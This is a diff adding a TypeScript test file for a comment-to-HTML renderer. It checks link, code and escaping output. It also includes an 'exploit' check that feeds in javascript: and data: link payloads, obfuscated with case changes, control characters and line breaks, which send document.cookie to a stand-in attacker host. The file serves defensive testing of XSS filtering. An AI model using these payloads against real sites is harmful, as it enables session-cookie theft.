@@ -1,0 +1,47 @@
+import assert from 'node:assert/strict'
+import vm from 'node:vm'
+import { scriptsOf, tagsOf } from '#proof/page'
+
+type Code = typeof import('./render-comment.ts')
+
+const render = ({ renderComment }: Code, source: string) =>
+  renderComment({ id: 12, author: 'Ada <ada@example.com>', writtenAt: new Date(0), source })
+
+export async function works(code: Code) {
+  const html = render(code, 'See [the guide](https://example.com/guide?a=1&b=2), `a<b>` and\nask @grace-h.\n\n<b>Bye</b>')
+  const tags = tagsOf(html)
+  const links = tags.filter(({ name }) => name === 'a')
+  assert.deepEqual(
+    links.map(({ attributes, text }) => [attributes.href, text]),
+    [
+      ['https://example.com/guide?a=1&b=2', 'the guide'],
+      ['/people/grace-h', '@grace-h'],
+    ],
+  )
+  assert.equal(tags.find(({ name }) => name === 'code')?.text, 'a<b>')
+  assert.equal(tags.filter(({ name }) => name === 'p').length, 2)
+  assert.ok(html.includes('&lt;b&gt;Bye'))
+  assert.ok(html.includes('Ada &lt;ada@example.com&gt;'))
+}
+
+/** Does what a browser does at a click on a `javascript:` link: parses the address, decodes the rest and runs it. */
+function click(address: string): string {
+  const page = { location: '', document: { cookie: 'session=5e1f' } }
+  vm.runInNewContext(decodeURIComponent(new URL(address).href.slice('javascript:'.length)), page)
+  return page.location
+}
+
+export async function exploit(code: Code): Promise<boolean> {
+  const steal = `location='https://attacker.example/?'+document.cookie`
+  const targets = [
+    `javascript:${steal}`,
+    `JavaScript:${steal}`,
+    `\u0001javascript:${steal}`,
+    `javascript://example.com/%0a${steal}`,
+    `data:text/html,<script>${steal}</script>`,
+  ]
+  return targets.some((target) => {
+    const scripts = scriptsOf(render(code, `See the [release notes](${target})`))
+    return scripts.some((address) => click(address).endsWith('session=5e1f'))
+  })
+}
